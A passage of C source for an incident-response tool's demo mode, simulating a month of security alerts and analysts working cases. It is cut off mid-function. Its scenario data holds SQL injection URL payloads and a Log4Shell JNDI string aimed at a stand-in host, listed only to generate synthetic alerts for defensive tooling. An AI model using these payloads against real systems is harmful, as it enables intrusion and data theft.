/* demo.c: the simulated month (see demo.h).
 *
 * A discrete-event simulation on the injected clock (irk_clock_set): the
 * calendar of scenarios is drawn first; their alerts and the analysts'
 * actions are events in one time-ordered heap. Alerts that fall close
 * together go through the real ingest path in one batch per source (as a
 * log shipper would deliver them); each new incident becomes a case that
 * an analyst claims, triages and works through the real lifecycle
 * functions, at office hours unless it is urgent. Everything is drawn from
 * one seeded generator and ties are broken by insertion order, so a seed
 * and an end time give the same database, down to the audit chain head. */
#include <stdlib.h>
#include <string.h>

#include "irk/clock.h"
#include "irk/config.h"
#include "irk/demo.h"
#include "irk/identity.h"
#include "irk/incident.h"
#include "irk/ingest.h"
#include "irk/store.h"
#include "demo_impl.h"

#define MINUTE 60
#define HOUR 3600
#define DAY 86400
/* Alerts closer together than this share an ingest batch. */
#define BATCH_SPAN 300

enum { EV_ALERT, EV_WORK, EV_RECUR };

struct event {
	int64_t t;
	uint32_t seq;          /* insertion order: ties are deterministic */
	int type;
	int scen;              /* index into sim.sc */
	int phase, n;          /* EV_ALERT: phase and alert of the phase */
	int recur;             /* EV_ALERT: part of a recurrence (ignores stop) */
	int cs, gen;           /* EV_WORK: case and its generation */
};

struct heap {
	struct event *v;
	size_t n, cap;
	uint32_t seq;
};

enum { ROLE_PRIMARY, ROLE_DUP, ROLE_RECUR };
enum { S_CLAIM, S_TRIAGE, S_DECIDE, S_STAGE, S_CLOSE };

/* One incident being worked. */
struct dcase {
	int64_t id;
	int scen, role;
	int step, pathpos, gen;
	int analyst;           /* index into demo_team; -1 before the claim */
	int urgent;            /* P1: worked around the clock */
	int effort;            /* minutes */
	unsigned noted;        /* stages whose note is written (bit per stage) */
	int64_t other;         /* the primary incident of the scenario */
};

struct sim {
	struct store *s;
	struct demo_rng r;
	struct ingest_ctx *ing;
	struct ingest_opts io;
	struct ingest_stats ist;
	int64_t start, end, now;
	int days;
	struct heap h;
	struct demo_scen *sc;
	size_t nsc, capsc;
	struct dcase *cs;
	size_t ncs, capcs;
	int *case_of;          /* incident id -> case index + 1 */
	size_t ncase_of;
	int added[16];         /* team members registered */
	int64_t line[FMT_COUNT];
	char many_src[16];     /* the outside address of the alert being written */
	int setbacks, reopens; /* moves back after recovery; recurrences after closing */
	struct demo_stepper steps;   /* the play steps of incidents that have one */
	const char *admin;
	FILE *progress;
	int64_t progress_day;
	struct irk_err *err;
};

static const char *const sources[FMT_COUNT] = {
	[FMT_EVE] = "/var/log/suricata/eve.json",
	[FMT_WAZUH] = "/var/ossec/logs/alerts/alerts.json",
	[FMT_ECS] = "elastic:.alerts-security.alerts-default",
	[FMT_ZEEK] = "/opt/zeek/logs/current/notice.log",
	[FMT_JSON] = "/var/log/cloud-audit/detections.jsonl",
};

/* ---- the event heap ----------------------------------------------------------- */

static int ev_before(const struct event *a, const struct event *b)
{
	return a->t < b->t || (a->t == b->t && a->seq < b->seq);
}

static void heap_push(struct heap *h, struct event e)
{
	size_t i;

	if (h->n == h->cap) {
		h->cap = h->cap ? 2 * h->cap : 1024;
		h->v = xrealloc(h->v, h->cap * sizeof *h->v);
	}
	e.seq = h->seq++;
	i = h->n++;
	while (i > 0 && ev_before(&e, &h->v[(i - 1) / 2])) {
		h->v[i] = h->v[(i - 1) / 2];
		i = (i - 1) / 2;
	}
	h->v[i] = e;
}

static struct event heap_pop(struct heap *h)
{
	struct event top = h->v[0], last = h->v[--h->n];
	size_t i = 0;

	for (;;) {
		size_t c = 2 * i + 1;
		if (c >= h->n)
			break;
		if (c + 1 < h->n && ev_before(&h->v[c + 1], &h->v[c]))
			c++;
		if (!ev_before(&h->v[c], &last))
			break;
		h->v[i] = h->v[c];
		i = c;
	}
	if (h->n)
		h->v[i] = last;
	return top;
}

/* ---- the calendar --------------------------------------------------------------- */

/* 0 Sunday .. 6 Saturday (1970-01-01 was a Thursday). */
static int weekday(int64_t t)
{
	return (int)(((t / DAY) + 4) % 7);
}

static int hour_of(int64_t t)
{
	return (int)((t % DAY) / HOUR);
}

/* The first moment at or after t when the SOC's day shift works
 * (Monday to Friday, 08:00-18:00 UTC), with a little slack for coffee. */
static int64_t office(struct sim *m, int64_t t)
{
	for (int guard = 0; guard < 10; guard++) {
		int wd = weekday(t), h = hour_of(t);
		if (wd >= 1 && wd <= 5 && h >= 8 && h < 18)
			return t;
		if (wd >= 1 && wd <= 5 && h < 8)
			t = t - t % DAY + 8 * HOUR;
		else
			t = t - t % DAY + DAY + 8 * HOUR;
		t += demo_rng_range(&m->r, 0, 40 * MINUTE);
	}
	return t;
}

/* Room for element n of the array *pp (of *cap elements of size bytes). */
static void grow(void *pp, size_t *cap, size_t n, size_t size)
{
	void **p = pp;

	if (n < *cap)
		return;
	*cap = *cap ? 2 * *cap : 256;
	*p = xrealloc(*p, *cap * size);
}

/* ---- scenarios ------------------------------------------------------------------ */

static const char *const bad_domains[] = {
	"login-micros0ft.example", "cdn-update.example", "invoice-portal.example",
	"secure-payroll.example", "static-assets.example", "telemetry-sync.example",
	"docs-share.example", "mail-verify.example", "cloud-drive.example", NULL,
};
/* What is dropped or touched, on Windows and on Linux hosts. */
static const char *const dropped_win[] = {
	"C:\\Users\\Public\\invoice_0412.doc", "C:\\ProgramData\\svchost32.exe",
	"\\\\fs-02\\finance\\Q3", "C:\\Users\\Public\\Downloads\\setup_x64.exe", NULL,
};
static const char *const dropped_unix[] = {
	"/tmp/.x/kdevtmpfsi", "/var/www/html/uploads/img.php", "/opt/app/bin/helper",
	"/dev/shm/.cache/xmrig", NULL,
};
static const char *const procs[] = {
	"rundll32.exe", "regsvr32.exe", "powershell.exe", "mshta.exe", "wscript.exe", NULL,
};
static const char *const urls[] = {
	"/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
	"/search?q=1'%20UNION%20SELECT%20NULL,NULL--", "/api/orders?id=7%20UNION%20ALL%20SELECT%201,2,3",
	"/login?next=${jndi:ldap://198.51.100.9:1389/a}", NULL,
};

static void random_ext(struct sim *m, char *buf, size_t n)
{
	static const char *const nets[] = { "198.51.100", "203.0.113", "192.0.2" };

	snprintf(buf, n, "%s.%d", nets[demo_rng_range(&m->r, 0, 2)], demo_rng_range(&m->r, 2, 254));
}

/* The outcome of a scenario, drawn once: false positive, benign or real. */
static int draw_outcome(struct sim *m, const struct demo_kind *k)
{
	int x = demo_rng_range(&m->r, 0, 99);

	if (x < k->fp)
		return RES_FALSE_POSITIVE;
	if (x < k->fp + k->benign)
		return RES_BENIGN;
	return RES_TRUE_POSITIVE;
}

static void push_alert(struct sim *m, int scen, int phase, int n, int64_t t, int recur)
{
	struct event e = { 0 };

	e.t = t;
	e.type = EV_ALERT;
	e.scen = scen;
	e.phase = phase;
	e.n = n;
	e.recur = recur;
	heap_push(&m->h, e);
}

/* A scenario of kind k starting at t: its parties and its alerts. */
static void scen_new(struct sim *m, int kind, int64_t t)
{
	const struct demo_kind *k = &demo_kinds[kind];
	size_t i = m->nsc++;
	struct demo_scen *sc;

	grow(&m->sc, &m->capsc, i, sizeof *m->sc);
	sc = &m->sc[i];
	memset(sc, 0, sizeof *sc);
	sc->kind = kind;
	sc->start = t;
	sc->host = demo_host_pick(&m->r, k->targets);
	sc->user = sc->host->user && demo_rng_pct(&m->r, 85) ? sc->host->user
		: demo_rng_pick(&m->r, demo_staff);
	if (sc->host->kind == HK_DC) {
		/* Logons against a DC come from one of our workstations. */
		const struct demo_host *ws = demo_host_pick(&m->r, HK_WS | HK_LAPTOP);
		irk_strlcpy(sc->ext, ws->ip, sizeof sc->ext);
		sc->user = ws->user;
	} else {
		random_ext(m, sc->ext, sizeof sc->ext);
	}
	if (k->hosts_max) {
		int want = demo_rng_range(&m->r, 1, k->hosts_max);
		int mask = k->targets & HK_SCANNER ? ~(HK_SCANNER | HK_CLOUD) : k->targets | HK_WINSRV;
		for (int tries = 0; sc->nextra < want && tries < 50; tries++) {
			const struct demo_host *h = demo_host_pick(&m->r, mask);
			int dup = h == sc->host;
			for (int j = 0; j < sc->nextra; j++)
				dup |= sc->extra[j] == h;
			if (!dup && h->ip)
				sc->extra[sc->nextra++] = h;
		}
	}
	irk_strlcpy(sc->domain, demo_rng_pick(&m->r, bad_domains), sizeof sc->domain);
	irk_strlcpy(sc->file, demo_rng_pick(&m->r, sc->host->kind & (HK_WS | HK_LAPTOP | HK_WINSRV | HK_DC) ?
					    dropped_win : dropped_unix), sizeof sc->file);
	irk_strlcpy(sc->proc, demo_rng_pick(&m->r, procs), sizeof sc->proc);
	irk_strlcpy(sc->url, demo_rng_pick(&m->r, urls), sizeof sc->url);
	for (int j = 0; j < 64; j++)
		sc->hash[j] = "0123456789abcdef"[demo_rng_next(&m->r) & 15];
	sc->hash[64] = '\0';
	sc->engines = demo_rng_range(&m->r, 3, 48);
	sc->ticket = demo_rng_range(&m->r, 100000, 999999);
	sc->outcome = draw_outcome(m, k);
	for (int p = 0; p < DEMO_PHASES && k->ph[p].rule; p++) {
		const struct demo_phase *ph = &k->ph[p];
		int64_t t0 = t + ph->offset;
		if ((ph->flags & PH_TP) && sc->outcome != RES_TRUE_POSITIVE)
			continue;
		if (!demo_rng_pct(&m->r, ph->pct))
			continue;
		if (ph->flags & PH_BEACON) {
			push_alert(m, (int)i, p, 0, t0, 0);
			continue;
		}
		int count = ph->flags & PH_MULTI ? sc->nextra : demo_rng_range(&m->r, ph->min, ph->max);
		for (int n = 0; n < count; n++)
			push_alert(m, (int)i, p, n, t0 + (ph->spread ? demo_rng_range(&m->r, 0, ph->spread) : n), 0);
	}
	if (k->targets & HK_CLOUD)
		sc->port = 443;
	else
		sc->port = k->ph[0].rule ? demo_rules[k->ph[0].rule].proto_port : 0;
	if (!sc->port)
		sc->port = demo_rng_range(&m->r, 1024, 65000);
}

/* Draw the period's scenarios, day by day. */
static void plan(struct sim *m)
{
	for (int64_t day = m->start - m->start % DAY; day < m->end; day += DAY) {
		int wd = weekday(day), weekend = wd == 0 || wd == 6;

		for (int k = 0; k < demo_nkinds; k++) {
			const struct demo_kind *kd = &demo_kinds[k];
			int count;

			if (kd->when == W_WEEKLY)
				count = wd == 2 ? (int)kd->rate + demo_rng_pct(&m->r,
						(int)((kd->rate - (int)kd->rate) * 100)) : 0;
			else
				count = demo_rng_poisson(&m->r, kd->when == W_OFFICE && weekend ?
							 kd->rate * 0.1 : kd->rate);
			for (int n = 0; n < count; n++) {
				int64_t t;
				if (kd->when == W_WEEKLY)
					t = day + 22 * HOUR + demo_rng_range(&m->r, 0, 40 * MINUTE);
				else if (kd->when == W_OFFICE && !weekend)
					t = day + 8 * HOUR + 30 * MINUTE + demo_rng_range(&m->r, 0, 9 * HOUR);
				else
					t = day + demo_rng_range(&m->r, 0, DAY - 1);
				if (t >= m->start && t < m->end - 10 * MINUTE)
					scen_new(m, k, t);
			}
		}
	}
}

/* ---- alerts into the ingest path ------------------------------------------------ */

/* Lay out the parties of one alert of phase ph. */
static void shot_fill(struct sim *m, struct demo_shot *a, const struct event *e)
{
	struct demo_scen *sc = &m->sc[e->scen];
	const struct demo_kind *k = &demo_kinds[sc->kind];
	const struct demo_phase *ph = &k->ph[e->phase];

	memset(a, 0, sizeof *a);
	a->rule = &demo_rules[ph->rule];
	a->sc = sc;
	a->dir = ph->dir;
	a->t = e->t;
	a->usec = demo_rng_range(&m->r, 0, 999999);
	a->host = sc->host;
	a->user = sc->user;
	a->id = demo_rng_next(&m->r);
	a->seq = sc->alerts;
	a->sport = demo_rng_range(&m->r, 32768, 60999);
	a->dport = a->rule->proto_port ? a->rule->proto_port : sc->port;
	const char *out = sc->ext;
	if (ph->flags & PH_MANY_SRC) {
		random_ext(m, m->many_src, sizeof m->many_src);
		out = m->many_src;
	}
	const struct demo_host *peer = sc->nextra ? sc->extra[e->n % sc->nextra] : sc->host;
	switch (ph->dir) {
	case D_IN:      a->src = out; a->dst = sc->host->ip; break;
	case D_OUT:     a->src = sc->host->ip; a->dst = out; break;
	case D_EXT:     a->src = out; a->dport = 0; break;
	case D_LOCAL:   a->src = out; break;
	case D_HOSTONLY: break;
	case D_SCAN:    a->src = sc->host->ip; a->dst = peer->ip; a->dport = 0; break;
	case D_SPRAY:   a->src = sc->host->ip; a->dst = peer->ip; break;
	case D_SENSOR:  a->host = NULL; a->user = NULL; break;
	}
	if (ph->dir == D_SPRAY || ph->dir == D_SCAN)
		a->host = sc->host;
}

static int case_new(struct sim *m, int64_t id, int scen);

/* Ingest the alerts of one batch that belong to format f, in one
 * transaction with its ingest.batch audit event, as the shipper of that
 * source would. New incidents become cases once committed. */
static int ingest_format(struct sim *m, const struct event *ev, size_t n, int f)
{
	struct strbuf line = STRBUF_INIT;
	struct ingest_stats before = m->ist;
	int64_t first = m->line[f] + 1;
	struct { int64_t id; int scen; } *opened = NULL;
	size_t nopened = 0, capo = 0;
	int rc;

	if ((rc = store_begin(m->s, m->err)))
		return rc;
	/* Starts the batch afresh: received times are the shipper's clock. */
	ingest_flush(m->ing, m->err);
	for (size_t i = 0; i < n && !rc; i++) {
		struct demo_shot a;
		int64_t iid = 0, inc0 = m->ist.incidents;

		if (demo_rules[demo_kinds[m->sc[ev[i].scen].kind].ph[ev[i].phase].rule].format != f)
			continue;
		shot_fill(m, &a, &ev[i]);
		strbuf_reset(&line);
		demo_alert_json(&line, &a, &m->r);
		rc = ingest_record(m->ing, line.buf, line.len, sources[f], ++m->line[f], &m->ist,
				   &iid, m->err);
		if (rc) {
			/* The generator wrote something the parsers refuse: a bug. */
			irk_fail(m->err, IRK_ERROR, "demo: %s line %lld refused: %s", sources[f],
				 (long long)m->line[f], m->err->msg);
			break;
		}
		m->sc[ev[i].scen].alerts++;
		if (m->ist.incidents > inc0) {
			grow(&opened, &capo, nopened, sizeof *opened);
			opened[nopened].id = iid;
			opened[nopened++].scen = ev[i].scen;
		}
	}
	if (!rc)
		rc = ingest_flush(m->ing, m->err);
	if (!rc)
		rc = ingest_audit_batch(m->ing, sources[f], first, m->line[f], &before, &m->ist, m->err);
	if (!rc)
		rc = store_commit(m->s, m->err);
	else
		store_rollback(m->s);
	for (size_t i = 0; !rc && i < nopened; i++)
		rc = case_new(m, opened[i].id, opened[i].scen);
	free(opened);
	strbuf_free(&line);
	return rc;
}

/* Is the alert event e still due (beacons stop once contained)? */
static int alert_due(struct sim *m, const struct event *e)
{
	const struct demo_scen *sc = &m->sc[e->scen];

	return e->recur || !sc->stop || e->t < sc->stop;
}

/* The next beacon after e, until contained or the phase's maximum. */
static void beacon_next(struct sim *m, const struct event *e)
{
	const struct demo_scen *sc = &m->sc[e->scen];
	const struct demo_phase *ph = &demo_kinds[sc->kind].ph[e->phase];
	int jitter = ph->spread / 10;

	if (!(ph->flags & PH_BEACON) || e->recur || e->n + 1 >= ph->max)
		return;
	push_alert(m, e->scen, e->phase, e->n + 1,
		   e->t + ph->spread + demo_rng_range(&m->r, -jitter, jitter), 0);
}

/* An alert event is due: take every alert due within the batch span (and
 * before any analyst action), then ingest them source by source. */
static int run_alerts(struct sim *m, struct event first)
{
	struct event *batch = NULL;
	size_t n = 0, cap = 0;
	int64_t last = first.t, limit = first.t + BATCH_SPAN;
	int rc = IRK_OK;

	for (struct event e = first;;) {
		if (alert_due(m, &e)) {
			grow(&batch, &cap, n, sizeof *batch);
			batch[n++] = e;
			last = e.t;
			beacon_next(m, &e);
		}
		if (!m->h.n || m->h.v[0].type != EV_ALERT || m->h.v[0].t >= limit ||
		    m->h.v[0].t >= m->end)
			break;
		e = heap_pop(&m->h);
	}
	if (n) {
		/* The shipper delivers a little after the last event. */
		int64_t t = last + demo_rng_range(&m->r, 5, 90);
		if (t > m->now)
			m->now = t;
		irk_clock_set(m->now);
		for (int f = 0; f < FMT_COUNT && !rc; f++)
			rc = ingest_format(m, batch, n, f);
	}
	free(batch);
	return rc;
}

/* ---- the analysts ------------------------------------------------------------------ */

static struct actor actor_of(int analyst)
{
	struct actor a;

	irk_strlcpy(a.name, demo_team[analyst].name, sizeof a.name);
	a.role = demo_team[analyst].role;
	return a;
}

static int joined(const struct sim *m, int analyst, int64_t t)
{
	return t >= m->start + (int64_t)(demo_team[analyst].joins * m->days * DAY);
}

/* Who picks the case up: analysts mostly, seniors for urgent ones, the
 * manager now and then. */
static int pick_analyst(struct sim *m, int urgent)
{
	double w[16], total = 0, x;
	int last = 0;

	for (int i = 0; i < demo_nteam && i < 16; i++) {
		w[i] = 0;
		if (!joined(m, i, m->now))
			continue;
		w[i] = demo_team[i].role == ROLE_ANALYST ? 3.0 : demo_team[i].role == ROLE_SENIOR ?
			(urgent ? 5.0 : 2.0) : 0.4;
		total += w[i];
		last = i;
	}
	x = demo_rng_unit(&m->r) * total;
	for (int i = 0; i < demo_nteam && i < 16; i++) {
		if (x < w[i])
			return i;
		x -= w[i];
	}
	return last;
}

/* The senior on call, who is told about the worst cases. */
static const char *lead_name(void)
{
	for (int i = 0; i < demo_nteam; i++)
		if (demo_team[i].role == ROLE_SENIOR)
			return demo_team[i].name;
	return demo_team[0].name;
}

static void schedule_at(struct sim *m, struct dcase *c, int step, int64_t t)
{
	struct event e = { 0 };

	c->step = step;
	e.t = t;
	e.type = EV_WORK;
	e.cs = (int)(c - m->cs);
	e.gen = c->gen;
	heap_push(&m->h, e);
}

/* Schedule the case's next step after a typical wait (median seconds,
 * log-normal), at office hours unless the case is urgent. */
static void schedule(struct sim *m, struct dcase *c, int step, double median)
{
	double speed = c->analyst >= 0 ? demo_team[c->analyst].speed : 1.0;
	int64_t t = m->now + 60 + (int64_t)demo_rng_lognormal(&m->r, median * speed, 0.7);

	schedule_at(m, c, step, c->urgent ? t : office(m, t));
}

static int case_new(struct sim *m, int64_t id, int scen)
{
	struct demo_scen *sc = &m->sc[scen];
	struct incident inc;
	struct dcase *c;
	static const double claim_wait[5] = { 0, 8 * MINUTE, 35 * MINUTE, 5 * HOUR, 30 * HOUR };
	size_t i = m->ncs++;

	grow(&m->cs, &m->capcs, i, sizeof *m->cs);
	c = &m->cs[i];
	memset(c, 0, sizeof *c);
	c->id = id;
	c->scen = scen;
	c->analyst = -1;
	if (!sc->primary) {
		c->role = ROLE_PRIMARY;
		sc->primary = id;
	} else {
		c->role = sc->recur ? ROLE_RECUR : ROLE_DUP;
		c->other = sc->primary;
		sc->recur = 0;
	}
	if ((size_t)id >= m->ncase_of) {
		size_t n = m->ncase_of ? m->ncase_of : 256;
		while (n <= (size_t)id)
			n *= 2;
		m->case_of = xrealloc(m->case_of, n * sizeof *m->case_of);
		memset(m->case_of + m->ncase_of, 0, (n - m->ncase_of) * sizeof *m->case_of);
		m->ncase_of = n;
	}
	m->case_of[id] = (int)i + 1;
	if (store_incident_get(m->s, id, &inc, NULL) == IRK_OK) {
		c->urgent = inc.priority == 1;
		schedule(m, c, S_CLAIM, claim_wait[inc.priority >= 1 && inc.priority <= 4 ? inc.priority : 4]);
		incident_clear(&inc);
	}
	/* A play's first automated steps run as soon as it is assigned. */
	return demo_steps_advance(&m->steps, id, "engine");
}

/* Expand one line of list (or of the fallback) about case c. */
static void case_text(struct sim *m, const struct dcase *c, const char *const *list,
		      const char *const *fallback, struct strbuf *out)
{
	const char *tpl = demo_rng_pick(&m->r, list ? list : fallback);
	struct incident inc;
	char key[24], other[24];
	struct demo_text tx = { &m->sc[c->scen], NULL, key, NULL, lead_name(), NULL, 0, &m->r };

	strbuf_reset(out);
	if (!tpl)
		return;
	incident_key(c->id, key, sizeof key);
	if (c->other)
		tx.dup = incident_key(c->other, other, sizeof other);
	if (store_incident_get(m->s, c->id, &inc, NULL) == IRK_OK) {
		tx.n = inc.alert_count;
		incident_clear(&inc);
	}
	demo_expand(out, tpl, &tx);
}

static int note(struct sim *m, const struct dcase *c, const struct actor *who, int64_t id,
		const char *const *list, const char *const *fallback)
{
	struct strbuf text = STRBUF_INIT;
	int rc = IRK_OK;

	case_text(m, c, list, fallback, &text);
	if (text.len)
		rc = incident_note(m->s, who, id, text.buf, m->err);
	strbuf_free(&text);
	return rc;
}

static int set_fields(struct sim *m, const struct actor *who, int64_t id, char **assign, int n)
{
	return incident_set(m->s, who, id, assign, n, 0, m->err);
}

static char *assign(const char *field, const char *value)
{
	struct strbuf sb = STRBUF_INIT;

	strbuf_printf(&sb, "%s=%s", field, value);
	return strbuf_detach(&sb);
}

static char *assign_int(const char *field, int64_t v)
{
	struct strbuf sb = STRBUF_INIT;

	strbuf_printf(&sb, "%s=%lld", field, (long long)v);
	return strbuf_detach(&sb);
}

static void free_assign(char **a, int n)
{
	for (int i = 0; i < n; i++)
		free(a[i]);
}

static int stage_of_letter(char l)
{
	switch (l) {
	case 'c': return STAGE_CONTAINMENT;
	case 'e': return STAGE_ERADICATION;
	case 'r': return STAGE_RECOVERY;
	case 'l': return STAGE_LESSONS;
	}
	return -1;
}

static const char *const *stage_notes(const struct demo_kind *k, int stage, const char *const **fallback)
{
	switch (stage) {
	case STAGE_CONTAINMENT: *fallback = demo_generic_contain; return k->contain;
	case STAGE_ERADICATION: *fallback = demo_generic_eradicate; return k->eradicate;
	case STAGE_RECOVERY: *fallback = demo_generic_recover; return k->recover;
	default: *fallback = demo_generic_lessons; return k->lessons;
	}
}

/* How long a true positive typically stays in a stage before the next. */
static double stage_wait(int stage)
{
	switch (stage) {
	case STAGE_CONTAINMENT: return 20 * HOUR;
	case STAGE_ERADICATION: return 30 * HOUR;
	case STAGE_RECOVERY: return 2 * DAY;   /* watched before it is called done */
	default: return 2 * DAY;
	}
}

/* The same activity again, later: a burst of the scenario's first
 * repeating phase (or its first phase). The next new incident of the
 * scenario is then a recurrence. */
static void recur_later(struct sim *m, int scen, double median)
{
	struct event e = { 0 };

	e.t = m->now + HOUR + (int64_t)demo_rng_lognormal(&m->r, median, 0.5);
	e.type = EV_RECUR;
	e.scen = scen;
	heap_push(&m->h, e);
}

static void run_recur(struct sim *m, const struct event *e)
{
	struct demo_scen *sc = &m->sc[e->scen];
	const struct demo_kind *k = &demo_kinds[sc->kind];
	int p = 0;

	for (int i = 0; i < DEMO_PHASES && k->ph[i].rule; i++)
		if (k->ph[i].flags & PH_BEACON) {
			p = i;
			break;
		}
	sc->recur = 1;
	int n = demo_rng_range(&m->r, 2, 6);
	int gap = k->ph[p].flags & PH_BEACON ? k->ph[p].spread : 300;
	for (int i = 0; i < n; i++)
		push_alert(m, e->scen, p, i, e->t + (int64_t)i * gap, 1);
}

/* The lifecycle with the play: before a forward move or a close the
 * steps of the stage being left are worked (the gate wants them), after it
 * the play advances. A forward move goes a stage at a time, so the steps
 * of a stage on the way are worked too (a move over a stage passes its
 * gate); the history shows the analyst passing through it. */
static int lc_move(struct sim *m, const struct actor *who, int64_t id, int to, const char *reason)
{
	struct incident inc;
	int from, rc;

	if ((rc = store_incident_get(m->s, id, &inc, m->err)))
		return rc;
	from = inc.stage;
	incident_clear(&inc);
	if (to < from) {
		if (!(rc = incident_move(m->s, who, id, to, reason, 0, 0, m->err)))
			rc = demo_steps_advance(&m->steps, id, who->name);
		return rc;
	}
	for (int st = from; st < to && !rc; st++) {
		if ((rc = demo_steps_work(&m->steps, id, st, who)))
			break;
		if (!(rc = incident_move(m->s, who, id, st + 1, reason, 0, 0, m->err)))
			rc = demo_steps_advance(&m->steps, id, who->name);
	}
	return rc;
}

static int lc_close(struct sim *m, const struct actor *who, int64_t id, int res, const char *reason)
{
	struct incident inc;
	int rc, stage;

	if ((rc = store_incident_get(m->s, id, &inc, m->err)))
		return rc;
	/* A true positive is not closed over its play's required work of
	 * later stages: the analyst goes through them first. */
	stage = inc.stage;
	if (res == RES_TRUE_POSITIVE && stage < STAGE_LESSONS &&
	    incident_close_skips(m->s, id, res, NULL, m->err) > 0) {
		rc = lc_move(m, who, id, STAGE_LESSONS, NULL);
		stage = STAGE_LESSONS;
	}
	if (!rc)
		rc = demo_steps_work(&m->steps, id, stage, who);
	incident_clear(&inc);
	if (!rc && !(rc = incident_close(m->s, who, id, res, reason, 0, 0, m->err)))
		rc = demo_steps_advance(&m->steps, id, who->name);
	return rc;
}

/* Move the case's incident to stage and write the note for it. */
static int case_move(struct sim *m, struct dcase *c, const struct actor *who, int stage,
		     const char *reason)
{
	const struct demo_kind *k = &demo_kinds[m->sc[c->scen].kind];
	const char *const *fallback;
	const char *const *list = stage_notes(k, stage, &fallback);
	int rc = lc_move(m, who, c->id, stage, reason);

	/* Coming back to a stage (after a setback) needs no second note. */
	if (!rc && stage >= STAGE_CONTAINMENT && !(c->noted & (1u << stage)))
		rc = note(m, c, who, c->id, list, fallback);
	c->noted |= 1u << stage;
	if (!rc && stage == STAGE_CONTAINMENT && !m->sc[c->scen].stop)
		m->sc[c->scen].stop = m->now;
	c->effort += demo_rng_range(&m->r, 20, 180);
	return rc;
}

static int case_close(struct sim *m, struct dcase *c, const struct actor *who, int res,
		      const char *reason)
{
	char *a[1] = { assign_int("effort_min", c->effort) };
	int rc = set_fields(m, who, c->id, a, 1);

	free_assign(a, 1);
	if (!rc)
		rc = lc_close(m, who, c->id, res, reason);
	return rc;
}

/* The next stage of the primary's path after the time it spends in the
 * current one, or its close. Lessons learned wait for the weekly
 * post-incident review (Thursday 14:00). */
static int case_advance(struct sim *m, struct dcase *c)
{
	const struct demo_kind *k = &demo_kinds[m->sc[c->scen].kind];
	int len = (int)strlen(k->path);
	int cur = c->pathpos ? stage_of_letter(k->path[c->pathpos - 1]) : STAGE_IDENTIFICATION;
	double wait = cur == STAGE_IDENTIFICATION ? 2 * HOUR : stage_wait(cur);

	if (c->pathpos < len) {
		schedule(m, c, S_STAGE, wait);
	} else if (cur == STAGE_LESSONS) {
		int64_t t = m->now + DAY;
		t = t - t % DAY + 14 * HOUR;
		while (weekday(t) != 4)
			t += DAY;
		schedule_at(m, c, S_CLOSE, t + demo_rng_range(&m->r, 0, 2 * HOUR));
	} else {
		schedule(m, c, S_CLOSE, len ? wait : HOUR);
	}
	return IRK_OK;
}

/* Put the primary back to containment (or reopen it) because its
 * activity came back; its own plan restarts from there. */
static int case_setback(struct sim *m, struct dcase *rc_case, const struct actor *who)
{
	struct dcase *p;
	struct incident inc;
	const struct demo_kind *k = &demo_kinds[m->sc[rc_case->scen].kind];
	struct strbuf reason = STRBUF_INIT;
	int rc, closed;

	if (rc_case->other <= 0 || (size_t)rc_case->other >= m->ncase_of || !m->case_of[rc_case->other])
		return IRK_OK;
	p = &m->cs[m->case_of[rc_case->other] - 1];
	if (store_incident_get(m->s, p->id, &inc, m->err))
		return IRK_ERROR;
	closed = inc.stage == STAGE_CLOSED;
	if (inc.stage <= STAGE_CONTAINMENT) {
		incident_clear(&inc);
		return IRK_OK;   /* still being contained: just a duplicate */
	}
	incident_clear(&inc);
	/* Written on the primary, naming the new incident as {dup}. */
	struct dcase about = *rc_case;
	about.id = p->id;
	about.other = rc_case->id;
	case_text(m, &about, closed ? demo_generic_reopen : k->reinfect_note,
		  demo_generic_reinfect, &reason);
	rc = lc_move(m, who, p->id, STAGE_CONTAINMENT, reason.buf);
	strbuf_free(&reason);
	if (rc)
		return rc;
	m->sc[p->scen].stop = m->now;
	p->gen++;   /* its pending step is void */
	p->pathpos = (int)(strchr(k->path, 'c') - k->path) + 1;
	if (p->analyst < 0)
		p->analyst = rc_case->analyst;
	return case_advance(m, p);
}

/* Does the scenario still send alerts (a beacon not yet contained)? */
static int scen_active(const struct sim *m, int scen)
{
	const struct demo_scen *sc = &m->sc[scen];
	const struct demo_kind *k = &demo_kinds[sc->kind];

	if (sc->stop)
		return 0;
	for (int i = 0; i < DEMO_PHASES && k->ph[i].rule; i++)
		if (k->ph[i].flags & PH_BEACON)
			return 1;
	return 0;
}

static int step_claim(struct sim *m, struct dcase *c)
{
	int rc;

	if (c->role != ROLE_PRIMARY && c->other > 0 && (size_t)c->other < m->ncase_of &&
	    m->case_of[c->other] && m->cs[m->case_of[c->other] - 1].analyst >= 0)
		c->analyst = m->cs[m->case_of[c->other] - 1].analyst;
	else
		c->analyst = pick_analyst(m, c->urgent);
	struct actor who = actor_of(c->analyst);
	rc = incident_claim(m->s, &who, c->id, 0, 0, m->err);
	if (rc)
		return rc;
	if (demo_rng_pct(&m->r, 15))
		rc = note(m, c, &who, c->id, demo_generic_ack, NULL);
	c->effort += demo_rng_range(&m->r, 2, 10);
	schedule(m, c, S_TRIAGE, c->role == ROLE_PRIMARY ? 25 * MINUTE : 15 * MINUTE);
	return rc;
}

static int step_triage(struct sim *m, struct dcase *c, const struct actor *who)
{
	const struct demo_scen *sc = &m->sc[c->scen];
	const struct demo_kind *k = &demo_kinds[sc->kind];
	char key[24];
	int rc;

	if (c->role != ROLE_PRIMARY) {
		if (!c->pathpos) {
			if (c->role == ROLE_RECUR && (rc = case_setback(m, c, who)))
				return rc;
			if ((rc = note(m, c, who, c->id, NULL, demo_generic_dup)))
				return rc;
			c->pathpos = 1;   /* noted */
		}
		if (scen_active(m, c->scen)) {
			/* Closing it now would only open another one with the next
			 * beacon: keep it until the source is contained. */
			schedule(m, c, S_TRIAGE, 4 * HOUR);
			return IRK_OK;
		}
		struct strbuf reason = STRBUF_INIT;
		strbuf_printf(&reason, "duplicate of %s", incident_key(c->other, key, sizeof key));
		c->effort += demo_rng_range(&m->r, 3, 15);
		rc = case_close(m, c, who, RES_DUPLICATE, reason.buf);
		strbuf_free(&reason);
		return rc;
	}
	char *a[3] = {
		assign("business_unit", demo_unit_name(sc->host->unit)),
		assign("category", k->category),
		assign_int("asset_criticality", sc->host->crit),
	};
	rc = set_fields(m, who, c->id, a, 3);
	free_assign(a, 3);
	if (!rc)
		rc = lc_move(m, who, c->id, STAGE_IDENTIFICATION, NULL);
	if (!rc)
		rc = note(m, c, who, c->id, k->triage, demo_generic_triage);
	c->effort += demo_rng_range(&m->r, 10, 45);
	/* Dismissing takes longer: the system owner has to answer. */
